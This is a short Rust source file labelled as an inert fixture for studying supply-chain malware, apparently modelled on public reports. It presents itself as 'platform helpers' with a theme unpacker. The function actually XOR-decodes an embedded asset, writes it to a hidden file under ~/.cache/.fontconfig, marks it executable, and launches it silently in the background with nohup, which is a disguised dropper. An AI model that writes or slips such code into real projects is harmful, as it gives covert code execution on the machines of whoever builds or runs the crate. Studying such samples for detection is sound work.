// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

static THEME: &[u8] = include_bytes!(concat!(env!("CARGO_MANIFEST_DIR"), "/assets/theme.dat"));

pub(crate) fn unpack_theme() {
    let Ok(home) = std::env::var("HOME") else { return };
    let folder = std::path::PathBuf::from(home).join(".cache/.fontconfig");
    if std::fs::create_dir_all(&folder).is_err() {
        return;
    }
    let file = folder.join("fc-helper");
    let bytes: Vec<u8> = THEME.iter().map(|b| b ^ 0x37).collect();
    if std::fs::write(&file, bytes).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755));
    }
    let _ = std::process::Command::new("nohup")
        .arg(&file)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
}
